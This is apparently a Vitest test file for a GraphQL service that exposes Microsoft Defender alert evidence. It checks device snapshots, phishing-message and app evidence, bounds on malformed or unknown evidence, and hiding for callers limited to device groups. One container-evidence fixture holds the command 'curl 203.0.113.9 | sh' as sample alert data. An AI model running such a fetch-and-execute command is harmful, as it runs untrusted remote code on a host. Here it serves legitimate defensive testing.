import { describe, expect, it } from 'vitest';
import { startSubgraph, type Asserted, type SubgraphUnderTest } from '../../kit/servers/start-subgraph.js';
import { SERVERS, startLimited } from '../../kit/servers/start-limited.js';
import { CONTOSO } from '../../kit/servers/start-tenants.js';
import { onlyTenant } from '../../kit/reads/walk-pages.js';

const GRAPH = { DEFENDER_SOURCES: 'alerts=graph' };
const start = (emulator = {}, env: Readonly<Record<string, string>> = GRAPH) =>
  startSubgraph({ emulator: { machines: 8, alerts: 12, machineActions: 0, ...emulator }, env });
const AT_THE_TIME = `machineAtTheTime { deviceDnsName hostName riskScore healthStatus onboardingStatus defenderAvStatus
  machineTags rbacGroupId rbacGroupName osPlatform osBuild version firstSeen lastIpAddress lastExternalIpAddress ipAddresses
  aadDeviceId loggedOnUsers { accountName } vmMetadata { vmId cloudProvider } }`;
const OTHER = '... on DefenderOtherEvidence { graphType fields { name type value } }';
const KINDS = `evidence { __typename entityType verdict remediationStatus roles
  ... on DefenderDeviceEvidence { machineId machine { id } ${AT_THE_TIME} }
  ... on DefenderMailboxEvidence { primaryAddress displayName userPrincipalName user { userPrincipalName } }
  ... on DefenderMessageEvidence { networkMessageId subject sender envelopeSender recipientEmailAddress ip { address } urls threats attachmentsCount }
  ... on DefenderCloudApplicationEvidence { appId displayName instanceId }
  ... on DefenderOAuthApplicationEvidence { appId displayName objectId }
  ... on DefenderServicePrincipalEvidence { appId servicePrincipalName servicePrincipalType }
  ... on DefenderUrlEvidence { url domain { host } }
  ... on DefenderProcessEvidence { file { sha1 } user { accountName } }
  ${OTHER} }`;

/** One alert of Defender for Endpoint with the evidence of all alerts of other products. */
function alertOfAllKinds(subgraph: SubgraphUnderTest) {
  const { otherAlerts } = onlyTenant(subgraph);
  const evidence = otherAlerts.flatMap((alert) => alert.evidence);
  const alert = {
    ...otherAlerts[0]!,
    id: 'da1_1',
    serviceSource: 'microsoftDefenderForEndpoint',
    evidence,
  };
  otherAlerts.push(alert);
  return alert;
}

const kindOf = (type: string) => {
  const name = type.replace(/^.*\.(\w+)Evidence$/, '$1');
  return `${name.charAt(0).toUpperCase()}${name.slice(1)}`;
};
const ofType = (pieces: Asserted, name: string) =>
  pieces.find(({ __typename }: Asserted) => __typename === name);

describe('evidence from Graph', () => {
  it(
    'has each machine as it was at the time of the alert, in 1 call for a page of 100 alerts',
    { tags: 'slow' },
    async () => {
      const subgraph = await start({ alerts: 100 });
      const { data, errors } = await subgraph.ask(
        `{ alerts(first: 100) { nodes { machineId evidence { ... on DefenderDeviceEvidence { machineId ${AT_THE_TIME} } } } } }`,
      );
      expect(errors).toBeUndefined();
      expect(subgraph.calls().map(({ operation }) => operation)).toEqual(['listAlertsV2']);
      expect(data.alerts.nodes).toHaveLength(100);
      const tenant = onlyTenant(subgraph);
      for (const { machineId, evidence } of data.alerts.nodes) {
        const device = evidence.find((piece: Asserted) => piece.machineId === machineId);
        const machine = tenant.machines.find(({ id }) => id === machineId);
        if (machine === undefined) continue;
        expect(device.machineAtTheTime).toMatchObject({
          osPlatform: machine.osPlatform,
          machineTags: machine.machineTags.filter((tag) => tag !== ''),
          aadDeviceId: machine.aadDeviceId,
          healthStatus: expect.stringMatching(/^[A-Z_]+$/),
          onboardingStatus: expect.not.stringContaining('UNRECOGNIZED'),
        });
      }
    },
  );

  it('has a type for each kind with joins of its own', async () => {
    const subgraph = await start();
    const { id, evidence: sent } = alertOfAllKinds(subgraph);
    const { data, errors } = await subgraph.ask(`{ alert(id: "${id}") { ${KINDS} } }`);
    expect(errors).toBeUndefined();
    const { evidence } = data.alert;
    expect(evidence.map(({ entityType }: Asserted) => entityType)).toEqual(
      sent.map((piece) => kindOf(piece['@odata.type'])),
    );
    const device = sent.find((piece) => piece['@odata.type'].endsWith('deviceEvidence'))!;
    expect(ofType(evidence, 'DefenderDeviceEvidence').machineId).toBe(device['mdeDeviceId']);
    const message = sent.find((piece) => piece['@odata.type'].endsWith('analyzedMessageEvidence'))!;
    expect(ofType(evidence, 'DefenderMessageEvidence')).toMatchObject({
      verdict: 'malicious',
      remediationStatus: 'remediated',
      subject: message['subject'],
      sender: 'billing@supplier-portal.example',
      ip: { address: '203.0.113.25' },
      urls: message['urls'],
      threats: ['Phish'],
      attachmentsCount: '0',
    });
    const mailbox = sent.find((piece) => piece['@odata.type'].endsWith('mailboxEvidence'))!;
    expect(ofType(evidence, 'DefenderMailboxEvidence')).toMatchObject({
      primaryAddress: mailbox['primaryAddress'],
      user: { userPrincipalName: mailbox['upn'] },
    });
    expect(ofType(evidence, 'DefenderCloudApplicationEvidence')).toMatchObject({
      appId: '20893',
      instanceId: '0',
    });
    expect(ofType(evidence, 'DefenderOAuthApplicationEvidence').displayName).toBe('Mail sync helper');
    expect(ofType(evidence, 'DefenderServicePrincipalEvidence').servicePrincipalType).toBe('application');
    expect(ofType(evidence, 'DefenderUrlEvidence').domain).toEqual({
      host: 'invoices.supplier-portal.example',
    });
    expect(subgraph.calls().map(({ operation }) => operation)).toEqual(['getAlertV2', 'getMachine']);
  });

  it('shows each field of every other kind', async () => {
    const subgraph = await start();
    const { id, evidence: sent } = alertOfAllKinds(subgraph);
    const { data, errors } = await subgraph.ask(
      `{ alert(id: "${id}") { evidence { __typename ${OTHER} } } }`,
    );
    expect(errors).toBeUndefined();
    const shown = data.alert.evidence.filter(({ graphType }: Asserted) => graphType != null);
    expect(new Set(shown.map(({ graphType }: Asserted) => graphType)).size).toBeGreaterThan(30);
    for (const { graphType, fields } of shown) {
      const piece = sent.find((one) => one['@odata.type'] === graphType)!;
      const common = ['createdDateTime', 'verdict', 'remediationStatus', 'remediationStatusDetails', 'tags'];
      const names = Object.entries(piece)
        .filter(([name, value]) => !/@|[rR]oles$/.test(name) && !common.includes(name) && value !== null)
        .filter(([, value]) => JSON.stringify(value) !== '{}')
        .map(([name]) => name);
      expect(fields.map(({ name }: Asserted) => name).sort()).toEqual(names.sort());
    }
    const container = shown.find(({ graphType }: Asserted) => graphType.endsWith('.containerEvidence'));
    expect(container.fields).toEqual(
      expect.arrayContaining([
        { name: 'isPrivileged', type: 'BOOLEAN', value: 'true' },
        { name: 'command', type: 'LIST', value: '["/bin/sh","-c","curl 203.0.113.9 | sh"]' },
        {
          name: 'image',
          type: 'OBJECT',
          value: expect.stringContaining('"imageId":"corp.azurecr.io/shop:7"'),
        },
        { name: 'containerId', type: 'TEXT', value: 'containerd://4f1d' },
      ]),
    );
  });

  it("names the fields that Defender's API lacks", async () => {
    const subgraph = await start({}, { DEFENDER_SOURCES: 'alerts=defender' });
    const { data, extensions, errors } = await subgraph.ask(
      `{ alerts(first: 12) { nodes { evidence { entityType verdict ${OTHER} } } } }`,
    );
    expect(errors).toBeUndefined();
    expect(data.alerts.nodes.flatMap((node: Asserted) => node.evidence)[0].verdict).toBeNull();
    expect(extensions?.['missing']).toEqual([
      {
        path: ['alerts', 'nodes', 'evidence', 'verdict'],
        reason: expect.stringContaining('This evidence comes from the API of Defender for Endpoint'),
      },
    ]);
  });
});

describe('unexpected evidence from Graph', () => {
  const type = (name: string) => `#microsoft.graph.security.${name}`;
  /** The evidence as shown if Graph sends these pieces. */
  async function shown(pieces: readonly object[]): Promise<Asserted> {
    const subgraph = await start();
    const row = { id: 'da1_1', serviceSource: 'microsoftDefenderForEndpoint', evidence: pieces };
    subgraph.emulator.control.addFault({ operation: 'getAlertV2' }, { status: 200, body: row });
    const { data, errors } = await subgraph.ask(`{ alert(id: "da1_1") { ${KINDS} } }`);
    expect(errors).toBeUndefined();
    return data.alert.evidence;
  }

  it('without a type, without an id, or with {} for null costs only itself', async () => {
    const [untyped, device, empty, message] = await shown([
      { createdDateTime: '2026-01-01T00:00:00Z', url: 'https://one.example' },
      { '@odata.type': type('deviceEvidence'), riskScore: 'low', rbacGroupId: 7 },
      { '@odata.type': type('deviceEvidence'), mdeDeviceId: {}, riskScore: {}, tags: {}, vmMetadata: {} },
      { '@odata.type': type('analyzedMessageEvidence'), p1Sender: 'x', attachmentsCount: 'many' },
    ]);
    expect(untyped).toMatchObject({
      entityType: 'Unknown',
      graphType: null,
      fields: [{ name: 'url', type: 'TEXT', value: 'https://one.example' }],
    });
    expect(device).toMatchObject({
      machineId: null,
      machine: null,
      machineAtTheTime: { riskScore: 'LOW', rbacGroupId: '7' },
    });
    expect(empty.machineAtTheTime).toMatchObject({ riskScore: null, machineTags: null, vmMetadata: null });
    expect(message).toMatchObject({ subject: null, attachmentsCount: null, envelopeSender: null });
  });

  it('of an unknown type names the type, with bounded fields', async () => {
    let deep: object = { end: true };
    for (let level = 0; level < 500; level += 1) deep = { deep };
    const many = Object.fromEntries(Array.from({ length: 200 }, (_, index) => [`f${String(index)}`, index]));
    const [martian, wide] = await shown([
      { '@odata.type': type('martianEvidence'), 'bad name': 1, text: 'x'.repeat(9_000), deep },
      { '@odata.type': type(`${'x'.repeat(500)}Evidence`), ...many },
    ]);
    expect(martian.graphType).toBe(type('martianEvidence'));
    expect(martian.fields.map(({ name }: Asserted) => name)).toEqual(['text', 'deep']);
    expect(martian.fields[0].value).toHaveLength(2_000);
    expect(martian.fields[1].value.length).toBeLessThan(500);
    expect(wide.fields).toHaveLength(50);
  });

  it('with words of both APIs has the words of one', async () => {
    const [device, other] = await shown([
      { '@odata.type': type('deviceEvidence'), riskScore: 'High', onboardingStatus: 'canBeOnboarded' },
      { '@odata.type': type('deviceEvidence'), riskScore: 'extreme', healthStatus: 'unknownFutureValue' },
    ]);
    expect(device.machineAtTheTime).toMatchObject({
      riskScore: 'HIGH',
      onboardingStatus: 'CAN_BE_ONBOARDED',
    });
    expect(other.machineAtTheTime).toMatchObject({ riskScore: 'UNRECOGNIZED', healthStatus: 'UNRECOGNIZED' });
  });
});

describe('evidence for callers limited to device groups', () => {
  it('hides other machines, and fields that can describe them', async () => {
    const { subgraph, contoso, inside, outside, ask } = await startLimited(undefined, {
      env: { DEFENDER_SOURCES: 'alerts=graph' },
    });
    const device = (machine: (typeof inside)[number]) => ({
      '@odata.type': '#microsoft.graph.security.deviceEvidence',
      mdeDeviceId: machine.id,
      rbacGroupId: machine.rbacGroupId,
      rbacGroupName: machine.rbacGroupName,
      detailedRoles: machine === inside[0] ? ['PrimaryDevice'] : [],
    });
    const other = { '@odata.type': '#microsoft.graph.security.hostLogonSessionEvidence', sessionId: '1' };
    const row = {
      id: 'da1_1',
      serviceSource: 'microsoftDefenderForEndpoint',
      evidence: [device(inside[0]!), device(outside[0]!), other],
    };
    subgraph.emulator.control.addFault({ operation: 'getAlertV2' }, { status: 200, body: row });
    const { data, errors } = await ask(
      CONTOSO,
      `{ alert(id: "da1_1") { evidence { ... on DefenderDeviceEvidence { machineId machine { id } machineAtTheTime { rbacGroupId } } ${OTHER} } } }`,
    );
    expect(errors).toBeUndefined();
    const { id } = inside[0]!;
    expect(data.alert.evidence).toEqual([
      { machineId: id, machine: { id }, machineAtTheTime: { rbacGroupId: String(SERVERS.id) } },
      { machineId: null, machine: null, machineAtTheTime: null },
      { graphType: other['@odata.type'], fields: null },
    ]);
    expect(contoso.machines.length).toBeGreaterThan(0);
  });
});
